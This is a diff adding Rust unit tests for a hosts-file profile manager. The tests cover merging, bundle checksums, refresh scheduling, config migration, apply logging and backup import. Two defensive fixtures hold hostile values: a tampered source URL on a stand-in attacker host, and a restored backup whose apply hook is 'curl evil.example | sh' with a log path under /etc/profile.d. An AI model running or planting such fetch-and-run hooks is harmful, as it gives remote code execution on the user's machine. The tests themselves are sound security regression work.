+        assert_eq!(read_profile_content_internal(&ctx, &dev).unwrap(), "10.0.0.3 api.local\n");
+
+        let mut twice: TeamBundle = serde_json::from_str(&bundle).unwrap();
+        twice.profiles[1] = twice.profiles[0].clone();
+        twice.sha256 = bundle_checksum(&twice.profiles, twice.version);
+        let err = import_bundle_internal(&ctx, &serde_json::to_string(&twice).unwrap(), true).unwrap_err();
+        assert!(err.to_string().contains("more than once"));
+    }
+
+    #[test]
+    fn bundle_checksum_covers_descriptions_and_source_urls() {
+        let (_dir, ctx) = scratch();
+        let id = add_profile(&ctx, "dev", "10.0.0.1 api.local\n", false);
+        let mut bundle: TeamBundle = serde_json::from_str(&export_bundle_internal(&ctx, &[id]).unwrap()).unwrap();
+        bundle.profiles[0].source_url = Some("http://attacker.example/hosts".to_string());
+
+        let err = import_bundle_internal(&ctx, &serde_json::to_string(&bundle).unwrap(), true).unwrap_err();
+        assert!(err.to_string().contains("checksum mismatch"));
+    }
+
+    #[test]
+    fn pending_lint_sees_substituted_addresses() {
+        let (_dir, ctx) = scratch();
+        set_variable_internal(&ctx, "SINK", Some("0.0.0.0".to_string())).unwrap();
+        add_profile(&ctx, "dev", "# note\n${SINK} github.com\n", true);
+
+        let warnings = lint_pending_internal(&ctx).unwrap();
+        assert_eq!(warnings.len(), 1);
+        assert!(warnings[0].starts_with("[dev] line 2: public hostname github.com sent to 0.0.0.0"));
+    }
+
+    #[test]
+    fn reachability_probes_substituted_addresses() {
+        let (_dir, ctx) = scratch();
+        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+        set_variable_internal(&ctx, "API_IP", Some("127.0.0.1".to_string())).unwrap();
+        add_profile(&ctx, "dev", "${API_IP} api.local\n", true);
+
+        let results = check_reachability_internal(&ctx, listener.local_addr().unwrap().port()).unwrap();
+        assert_eq!(results.len(), 1);
+        assert_eq!(results[0].ip, "127.0.0.1");
+        assert!(results[0].reachable);
+    }
+
+    #[test]
+    fn merge_skips_empty_sections_and_squeezes_blank_runs() {
+        let (_dir, ctx) = scratch();
+        add_profile(&ctx, "empty", "", true);
+        add_profile(&ctx, "notes", "# nothing here yet\n\n", true);
+        add_profile(&ctx, "parked", "# 10.0.0.9 old.local\n", true);
+        add_profile(&ctx, "padded", "10.0.0.1 a.local\n\n\n\n\n10.0.0.2 b.local\n\n\n\n", true);
+
+        let merged = build_merged_hosts(&ctx).unwrap();
+        assert!(!merged.contains("Profile: empty"));
+        assert!(!merged.contains("Profile: notes"));
+        assert!(merged.contains("# 10.0.0.9 old.local"), "{}", merged);
+        assert!(merged.contains("10.0.0.1 a.local\n\n10.0.0.2 b.local\n\n"), "{}", merged);
+        assert!(!merged.contains("\n\n\n"), "{}", merged);
+    }
+
+    #[test]
+    fn activation_rules_match_on_any_set_field() {
+        let network = crate::hosts::NetworkInfo {
+            ssid: Some("Office".to_string()),
+            gateway_mac: Some("aa:bb:cc:01:02:03".to_string()),
+        };
+        let rule = |ssid: Option<&str>, mac: Option<&str>| ActivationRule {
+            ssid: ssid.map(String::from),
+            gateway_mac: mac.map(String::from),
+        };
+
+        assert!(rule(Some("Office"), None).matches(&network));
+        assert!(rule(None, Some("AA-BB-CC-1-2-3")).matches(&network));
+        assert!(rule(Some("Home"), Some("aa:bb:cc:01:02:03")).matches(&network));
+        assert!(!rule(Some("office"), None).matches(&network));
+        assert!(!rule(Some("Home"), Some("aa:bb:cc:01:02:04")).matches(&network));
+        assert!(!rule(None, None).matches(&network));
+        assert!(!rule(Some("Office"), None).matches(&crate::hosts::NetworkInfo::default()));
+    }
+
+    #[test]
+    fn failed_refreshes_wait_a_full_interval() {
+        let (_dir, ctx) = scratch();
+        let id = add_profile(&ctx, "remote", "10.0.0.1 a.local\n", false);
+        let set_stamp = |stamp: &str| {
+            let mut config = load_config_internal(&ctx).unwrap();
+            let p = config.profiles.iter_mut().find(|p| p.id == id).unwrap();
+            p.url = Some("http://127.0.0.1:1/hosts".to_string());
+            p.update_interval = Some(3600);
+            p.last_update = Some(stamp.to_string());
+            p.last_attempt = None;
+            save_config_internal(&ctx, &config).unwrap();
+        };
+
+        // A stale stamp and one that doesn't parse are both due, once
+        for stamp in ["2020-01-01T00:00:00+00:00", "yesterday"] {
+            set_stamp(stamp);
+            assert_eq!(due_refresh_ids(&ctx).unwrap(), vec![id.clone()]);
+            let summary = refresh_all_due(&ctx).unwrap();
+            assert_eq!((summary.updated, summary.failures.len()), (0, 1), "{:?}", summary.failures);
+            assert!(due_refresh_ids(&ctx).unwrap().is_empty());
+            assert!(refresh_profile(&ctx, &id).is_err());
+        }
+
+        // The last good update and the content are left as they were
+        let config = load_config_internal(&ctx).unwrap();
+        let p = config.profiles.iter().find(|p| p.id == id).unwrap();
+        assert_eq!(p.last_update.as_deref(), Some("yesterday"));
+        assert!(p.last_attempt.is_some());
+        assert_eq!(read_profile_content_internal(&ctx, &id).unwrap(), "10.0.0.1 a.local\n");
+    }
+
+    #[test]
+    fn legacy_active_profile_ids_migrate_into_profiles() {
+        let (_dir, ctx) = scratch();
+        let legacy = serde_json::json!({
+            "schema_version": 1,
+            "multi_select": true,
+            "profiles": [
+                { "id": "a", "name": "dev", "active": false },
+                { "id": "b", "name": "test", "active": false },
+            ],
+            "active_profile_ids": ["b", "gone"],
+        });
+        let path = get_config_path(&ctx).unwrap();
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(&path, legacy.to_string()).unwrap();
+
+        let config = load_config_internal(&ctx).unwrap();
+        assert_eq!(config.schema_version, CONFIG_SCHEMA_VERSION);
+        let active: Vec<&str> = config.profiles.iter().filter(|p| p.active).map(|p| p.name.as_str()).collect();
+        assert_eq!(active, vec!["test"]);
+        assert!(config.active_profile_ids.is_empty());
+
+        // Saved once, so the next load doesn't migrate again
+        let saved: serde_json::Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+        assert_eq!(saved["schema_version"], CONFIG_SCHEMA_VERSION);
+    }
+
+    #[test]
+    fn active_profile_ids_is_never_written() {
+        let (_dir, ctx) = scratch();
+        add_profile(&ctx, "dev", "10.0.0.1 a.local\n", true);
+        let mut config = load_config_internal(&ctx).unwrap();
+        config.active_profile_ids = vec!["stale".to_string()];
+        save_config_internal(&ctx, &config).unwrap();
+
+        let saved = fs::read_to_string(get_config_path(&ctx).unwrap()).unwrap();
+        assert!(!saved.contains("active_profile_ids"));
+        for format in [BackupFormat::Json, BackupFormat::Yaml] {
+            assert!(!export_data_internal(&ctx, format).unwrap().contains("active_profile_ids"));
+        }
+        // Active state lives on the profiles
+        assert!(load_config_internal(&ctx).unwrap().profiles.iter().any(|p| p.name == "dev" && p.active));
+    }
+
+    #[test]
+    fn sorted_merges_are_canonical_and_drop_repeats() {
+        let (_dir, ctx) = scratch();
+        set_sort_entries_internal(&ctx, true).unwrap();
+        add_profile(&ctx, "a", "# web\n10.0.0.2 zeta.local\n10.0.0.1 beta.local alpha.local\n10.0.0.1 alpha.local\n", true);
+        add_profile(&ctx, "b", "10.0.0.3 Mid.local\n10.0.0.1 beta.local\n", true);
+
+        // Comments go, each pair is written once, the first section keeps it
+        let merged = build_merged_hosts(&ctx).unwrap();
+        assert!(merged.contains(
+            "### Profile: a ###\n10.0.0.1 alpha.local\n10.0.0.1 beta.local\n10.0.0.2 zeta.local\n\n### Profile: b ###\n10.0.0.3 Mid.local\n\n"
+        ), "{}", merged);
+    }
+
+    #[test]
+    fn every_apply_appends_one_log_line() {
+        let (_guard, dir) = crate::hosts::tests::scratch_system("127.0.0.1 localhost\n");
+        let ctx = Context::Headless;
+        let log = dir.path().join("audit.log");
+        std::env::set_var("HOSTLY_LOG", &log);
+        let id = add_profile(&ctx, "dev", "10.0.0.1 api.local\n", true);
+
+        apply_config_internal(&ctx).unwrap();
+        apply_config_internal(&ctx).unwrap();
+        let lines: Vec<serde_json::Value> = fs::read_to_string(&log)
+            .unwrap()
+            .lines()
+            .map(|l| serde_json::from_str(l).unwrap())
+            .collect();
+        assert_eq!(lines.len(), 2);
+        let written = crate::hosts::get_system_hosts().unwrap();
+        assert_eq!(lines[1]["bytes"], written.len());
+        assert_eq!(lines[1]["sha256"], sha256_hex(written.as_bytes()));
+        assert_eq!(lines[1]["active_profiles"][0]["id"], id.as_str());
+
+        // Off overrides the config, and a log that can't be written doesn't fail the apply
+        set_logging_internal(&ctx, true).unwrap();
+        std::env::set_var("HOSTLY_LOG", "off");
+        apply_config_internal(&ctx).unwrap();
+        assert_eq!(fs::read_to_string(&log).unwrap().lines().count(), 2);
+
+        std::env::set_var("HOSTLY_LOG", dir.path());
+        let summary = apply_config_with_summary_internal(&ctx).unwrap();
+        std::env::remove_var("HOSTLY_LOG");
+        assert!(summary.errors.iter().any(|e| e.starts_with("Failed to write apply log")), "{:?}", summary.errors);
+    }
+
+    #[test]
+    fn merge_normalizes_entries_only_when_asked() {
+        let (_dir, ctx) = scratch();
+        add_profile(&ctx, "dev", "0:0:0:0:0:0:0:1   API.Local\n", true);
+
+        assert!(build_merged_hosts(&ctx).unwrap().contains("\n0:0:0:0:0:0:0:1   API.Local\n"));
+        set_normalize_internal(&ctx, true).unwrap();
+        assert!(build_merged_hosts(&ctx).unwrap().contains("\n::1 api.local\n"));
+    }
+
+    #[test]
+    fn common_position_decides_order_and_who_wins_conflicts() {
+        let (_dir, ctx) = scratch();
+        save_common_config_internal(&ctx, "10.0.0.1 shared.local\n10.0.0.9 common.local\n".to_string()).unwrap();
+        add_profile(&ctx, "dev", "10.0.0.2 shared.local\n10.0.0.8 dev.local\n", true);
+
+        // Top: the profile comes later and overrides the common config
+        let merged = build_merged_hosts(&ctx).unwrap();
+        assert!(merged.find("### Common Config ###").unwrap() < merged.find("### Profile: dev ###").unwrap());
+        assert!(merged.contains("# [Hostly] overridden: 10.0.0.1 shared.local -> 10.0.0.2"), "{}", merged);
+        assert_eq!(build_clean_hosts(&ctx).unwrap(), "10.0.0.9 common.local\n10.0.0.2 shared.local\n10.0.0.8 dev.local\n");
+
+        set_common_position_internal(&ctx, CommonPosition::Bottom).unwrap();
+        let merged = build_merged_hosts(&ctx).unwrap();
+        assert!(merged.find("### Profile: dev ###").unwrap() < merged.find("### Common Config ###").unwrap());
+        assert!(merged.contains("# [Hostly] overridden: 10.0.0.2 shared.local -> 10.0.0.1"), "{}", merged);
+        assert_eq!(build_clean_hosts(&ctx).unwrap(), "10.0.0.8 dev.local\n10.0.0.1 shared.local\n10.0.0.9 common.local\n");
+
+        // Without conflict resolution both lines stay, in the chosen order
+        let mut config = load_config_internal(&ctx).unwrap();
+        config.merge_mode = MergeMode::KeepAll;
+        save_config_internal(&ctx, &config).unwrap();
+        assert_eq!(
+            build_clean_hosts(&ctx).unwrap(),
+            "10.0.0.2 shared.local\n10.0.0.8 dev.local\n10.0.0.1 shared.local\n10.0.0.9 common.local\n"
+        );
+    }
+
+    #[test]
+    fn switchhosts_hosts_switched_off_import_commented_out() {
+        let (_dir, ctx) = scratch();
+        let content_of = |name: &str| {
+            let id = resolve_profile(&ctx, name).unwrap().unwrap();
+            read_profile_content_internal(&ctx, &id).unwrap()
+        };
+        let export = serde_json::json!({
+            "data": {
+                "list": { "tree": [
+                    { "id": "h1", "title": "live", "on": true },
+                    { "id": "f1", "title": "Work", "type": "folder", "children": [
+                        { "id": "h2", "title": "parked", "on": false },
+                    ]},
+                ]},
+                "collection": { "hosts": { "data": [
+                    { "id": "h1", "content": "10.0.0.1 live.local\n" },
+                    { "id": "h2", "content": "# staging\n10.0.0.2 parked.local\n\n  10.0.0.3 other.local\n" },
+                ]}},
+            }
+        });
+
+        assert_eq!(import_switchhosts_internal(&ctx, export.to_string()).unwrap(), 2);
+        assert_eq!(content_of("live"), "10.0.0.1 live.local\n");
+        assert_eq!(content_of("parked"), "# staging\n# 10.0.0.2 parked.local\n\n# 10.0.0.3 other.local\n");
+
+        // Older array exports call it `enabled`
+        let old = serde_json::json!([{ "title": "legacy", "enabled": false, "content": "10.0.0.4 legacy.local" }]);
+        import_switchhosts_internal(&ctx, old.to_string()).unwrap();
+        assert_eq!(content_of("legacy"), "# 10.0.0.4 legacy.local");
+    }
+
+    #[test]
+    fn profiles_resolve_by_name_or_stable_id() {
+        let (_dir, ctx) = scratch();
+        let id = add_profile(&ctx, "api", "", false);
+        let odd = add_profile(&ctx, "id:not-a-uuid", "", false);
+
+        assert_eq!(resolve_profile(&ctx, "api").unwrap(), Some(id.clone()));
+        assert_eq!(resolve_profile(&ctx, &format!("id:{}", id)).unwrap(), Some(id.clone()));
+        assert_eq!(resolve_profile(&ctx, &format!("id: {} ", id)).unwrap(), Some(id.clone()));
+
+        // The id keeps working across a rename; the old name doesn't
+        rename_profile_internal(&ctx, &id, "api-v2".to_string()).unwrap();
+        assert_eq!(resolve_profile(&ctx, &format!("id:{}", id)).unwrap(), Some(id.clone()));
+        assert_eq!(resolve_profile(&ctx, "api").unwrap(), None);
+
+        // An `id:` that matches no id is still tried as a name
+        assert_eq!(resolve_profile(&ctx, "id:not-a-uuid").unwrap(), Some(odd));
+        assert_eq!(resolve_profile(&ctx, "id:missing").unwrap(), None);
+    }
+
+    #[test]
+    fn entry_labels_can_be_set_replaced_and_cleared() {
+        let (_dir, ctx) = scratch();
+        let id = add_profile(&ctx, "dev", "# web\n10.0.0.1 api.local www.local\n10.0.0.2 db.local # primary", false);
+
+        set_entry_comment_internal(&ctx, &id, "WWW.local", Some("  staging   API ")).unwrap();
+        set_entry_comment_internal(&ctx, &id, "db.local", Some("replica")).unwrap();
+        assert_eq!(
+            read_profile_content_internal(&ctx, &id).unwrap(),
+            "# web\n10.0.0.1 api.local www.local # staging API\n10.0.0.2 db.local # replica"
+        );
+
+        set_entry_comment_internal(&ctx, &id, "api.local", None).unwrap();
+        set_entry_comment_internal(&ctx, &id, "db.local", Some(" ")).unwrap();
+        assert_eq!(read_profile_content_internal(&ctx, &id).unwrap(), "# web\n10.0.0.1 api.local www.local\n10.0.0.2 db.local");
+    }
+
+    #[test]
+    fn backups_never_carry_the_apply_hook_or_log_path() {
+        let (_dir, ctx) = scratch();
+        add_profile(&ctx, "dev", "10.0.0.1 a.local\n", true);
+        set_apply_hook_internal(&ctx, Some("echo mine".to_string())).unwrap();
+        let exported = export_data_internal(&ctx, BackupFormat::Json).unwrap();
+        assert!(!exported.contains("echo mine"));
+
+        let mut backup: serde_json::Value = serde_json::from_str(&exported).unwrap();
+        backup["config"]["on_apply"] = "curl evil.example | sh".into();
+        backup["config"]["log_path"] = "/etc/profile.d/evil.sh".into();
+        import_data_internal(&ctx, backup.to_string(), ImportMode::Replace, None).unwrap();
+
+        let config = load_config_internal(&ctx).unwrap();
+        assert_eq!(config.on_apply.as_deref(), Some("echo mine"));
+        assert_eq!(config.log_path, None);
+        assert!(config.profiles.iter().any(|p| p.name == "dev" && p.active));
+    }
+}